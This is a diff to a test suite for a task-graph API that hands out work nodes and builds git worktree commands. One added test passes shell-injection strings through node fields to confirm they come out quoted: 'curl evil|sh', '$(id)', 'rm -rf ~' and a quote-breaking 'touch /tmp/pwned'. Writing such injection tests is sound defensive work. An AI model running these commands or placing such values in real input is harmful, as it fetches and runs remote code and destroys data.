@@ -32,7 +32,7 @@ describe('the RFC’s acceptance', () => {
     const id = await graph();
     const r = await expand(id, [{ title: 'Root' }, { title: 'Left', dependsOn: ['root'] }, { title: 'Right', dependsOn: ['root'] }, { title: 'Merge', dependsOn: ['left', 'right'] }]);
     expect(r.status, JSON.stringify(r.body)).toBe(200);
-    expect(r.body.result.added).toEqual(['root', 'left', 'right', 'merge']);
+    expect(r.body.added.map((n: any) => n.nodeId)).toEqual(['root', 'left', 'right', 'merge']);
     expect(await ready(id)).toEqual(['root']);
     expect((await act(id, 'root', 'complete')).status).toBe(200);
     expect(await ready(id)).toEqual(['left', 'right']);
@@ -42,6 +42,7 @@ describe('the RFC’s acceptance', () => {
     expect(await ready(id)).toEqual(['merge']);
     const done = await act(id, 'merge', 'complete');
     expect(done.body.graph.status).toBe('completed');
+    expect(done.body.graph.nodes).toBeUndefined(); // a write answers its node and a summary, not every node
     expect(await events(id)).toEqual([
       'TaskGraphCreated',
       'TaskNodeCreated root', 'TaskNodeCreated left', 'TaskNodeCreated right', 'TaskNodeCreated merge', 'TaskReady root',
@@ -67,7 +68,7 @@ describe('the RFC’s acceptance', () => {
     await expand(id, [{ title: 'Build API', project: 'demo', repository: 'service-a' }]);
     const r = await t.admin.put(`/v1/task-graphs/${id}/nodes/build-api/acl`, { agentId: 'agent-7' });
     expect(r.status, JSON.stringify(r.body)).toBe(200);
-    const node = r.body.graph.nodes[0];
+    const node = r.body.node;
     expect(node.agentId).toBe('agent-7');
     expect(node.acl.branch).toBe('agent/build-api-build-api');
     const cmds = node.acl.commands.join('\n');
@@ -81,7 +82,7 @@ describe('expand (§2.4, deterministic)', () => {
   it('Root / Child / Leaf: slug ids, each line depending on the nearest shallower line', async () => {
     const id = await graph();
     const r = await expand(id, 'Root\n  Child\n    Leaf\n');
-    expect(r.body.graph.nodes.map((n: any) => [n.nodeId, n.dependsOn])).toEqual([['root', []], ['child', ['root']], ['leaf', ['child']]]);
+    expect(r.body.added.map((n: any) => [n.nodeId, n.dependsOn])).toEqual([['root', []], ['child', ['root']], ['leaf', ['child']]]);
     expect(await ready(id)).toEqual(['root']);
   });
 
@@ -89,11 +90,11 @@ describe('expand (§2.4, deterministic)', () => {
     const id = await graph();
     await expand(id, '- Root\n  - Child\n');
     const again = await expand(id, '- Root\n  - Child\n');
-    expect(again.body.result.added).toEqual(['root-2', 'child-2']);
-    const nodes = Object.fromEntries(again.body.graph.nodes.map((n: any) => [n.nodeId, n.dependsOn]));
+    expect(again.body.added.map((n: any) => n.nodeId)).toEqual(['root-2', 'child-2']);
+    const nodes = Object.fromEntries((await agent.client.get(`/v1/task-graphs/${id}`)).body.graph.nodes.map((n: any) => [n.nodeId, n.dependsOn]));
     expect(nodes).toEqual({ root: [], child: ['root'], 'root-2': [], 'child-2': ['root-2'] });
     // A third time is just as deterministic.
-    expect((await expand(id, '- Root\n  - Child\n')).body.result.added).toEqual(['root-3', 'child-3']);
+    expect((await expand(id, '- Root\n  - Child\n')).body.added.map((n: any) => n.nodeId)).toEqual(['root-3', 'child-3']);
   });
 
   it('refuses a taken explicit id, an empty outline and invalid JSON, writing nothing', async () => {
@@ -102,8 +103,12 @@ describe('expand (§2.4, deterministic)', () => {
     const taken = await expand(id, [{ title: 'Again', nodeId: 'one' }]);
     expect([taken.status, taken.body.code]).toEqual([409, 'node_id_taken']);
     expect((await expand(id, '   \n\n')).body.code).toBe('validation_failed');
-    expect((await expand(id, '[not json')).body.code).toBe('validation_failed');
+    expect((await expand(id, '[{"title": "x", "bogus": 1}]')).body.code).toBe('validation_failed');
+    expect((await expand(id, '[{"title": "a\\ud800b"}]')).body.code).toBe('validation_failed');
+    expect((await expand(id, '[null, 1]')).body.code).toBe('validation_failed');
     expect((await agent.client.get(`/v1/task-graphs/${id}`)).body.graph.nodes.length).toBe(1);
+    // Text that starts with `[` but is not a JSON list is an outline.
+    expect((await expand(id, '[WIP] Root\n  Child')).body.added.map((n: any) => n.nodeId)).toEqual(['wip-root', 'child']);
   });
 });
 
@@ -148,6 +153,65 @@ describe('transitions where upstream misbehaves (§2.9)', () => {
     for (const r of [await stranger.client.get(`/v1/task-graphs/${id}`), await stranger.client.post(`/v1/task-graphs/${id}/expand`, { outline: 'x' }), await stranger.client.get('/v1/task-graphs/nope')]) {
       expect([r.status, r.body.code]).toEqual([404, 'task_graph_not_found']);
     }
+  });
+});
+
+describe('after review', () => {
+  it('completed nodes survive retention; blocked pending nodes cannot be completed; dots are not ids', async () => {
+    const id = await graph();
+    await expand(id, [{ title: 'D', nodeId: 'd' }, { title: 'N', nodeId: 'n', dependsOn: ['d'] }]);
+    await act(id, 'n', 'block', { reason: 'x' });
+    expect((await act(id, 'n', 'complete')).body.code).toBe('dependency_blocked');
+    expect((await expand(id, [{ title: 'Dot', nodeId: '..' }])).status).toBe(400);
+    await act(id, 'd', 'complete');
+    await t.sql`update todos set updated_at = now() - interval '30 days' where scope = ${`metagit:${id}`}`;
+    const { sweepRetention } = await import('../../src/sweeps/sweeps.js');
+    await sweepRetention(t.sql, { ...t.config, todo: { ...t.config.todo, retentionMs: 1000 } });
+    expect((await agent.client.get(`/v1/task-graphs/${id}`)).body.graph.nodes.map((n: any) => n.nodeId)).toEqual(['d', 'n']);
+  });
+
+  it('a cancelled graph hands out nothing until it is reopened', async () => {
+    const id = await graph();
+    await expand(id, 'Only');
+    await agent.client.post(`/v1/task-graphs/${id}/cancel`);
+    expect((await act(id, 'only', 'start')).body.code).toBe('invalid_transition');
+    expect((await agent.client.post('/v1/todos/next', { scope: `metagit:${id}` })).body.claimed).toBe(false);
+    expect((await agent.client.post(`/v1/task-graphs/${id}/reopen`)).body.graph.status).toBe('active');
+    expect((await act(id, 'only', 'start')).status).toBe(200);
+  });
+
+  it('a stopped starter’s node comes back ready with TaskReopened and TaskReady; reopening a completed node demotes its dependents with TaskPending', async () => {
+    const id = await graph();
+    await expand(id, 'Root\n  Child');
+    const worker = await t.session({ name: 'short-lived', parentId: agent.id });
+    await act(id, 'root', 'start', {}, worker.client);
+    await t.admin.post(`/v1/sessions/${worker.id}/stop`);
+    expect(await ready(id)).toEqual(['root']);
+    const ev = await events(id);
+    expect(ev.slice(-2)).toEqual(['TaskReopened root', 'TaskReady root']);
+    await act(id, 'root', 'complete');
+    expect(await ready(id)).toEqual(['child']);
+    await act(id, 'root', 'reopen');
+    expect((await events(id)).slice(-3)).toEqual(['TaskReopened root', 'TaskReady root', 'TaskPending child']);
+  });
+
+  it('the ACL commands quote what a user wrote, and intents are as private as their graphs', async () => {
+    const id = await graph();
+    await expand(id, [{ title: 'Fix', nodeId: 'n1', project: 'p; curl evil|sh;', repository: 'r $(id)' }]);
+    const r = await t.admin.put(`/v1/task-graphs/${id}/nodes/n1/acl`, { agentId: 'ag', branch: 'x; rm -rf ~', pattern: "'; touch /tmp/pwned; echo '" });
+    expect(r.body.node.acl.commands[2]).toBe("metagit worktree create --repo 'p; curl evil|sh;/r $(id)' --branch 'x; rm -rf ~'");
+    const stranger = await t.session({ name: 'intent-stranger' });
+    expect((await stranger.client.get(`/v1/intents/intent-${id}`)).status).toBe(404);
+    expect((await stranger.client.get('/v1/intents')).body.intents.map((i: any) => i.intentId)).not.toContain(`intent-${id}`);
+  });
+
+  it('complete cannot take a node another session just started through next', async () => {
+    const id = await graph();
+    await expand(id, 'Solo');
+    const racer = await t.session({ name: 'racer', parentId: agent.id });
+    await racer.client.post('/v1/todos/next', { scope: `metagit:${id}` });
+    const r = await act(id, 'solo', 'complete');
+    expect([r.status, r.body.code]).toEqual([403, 'forbidden']);
   });
 });
 
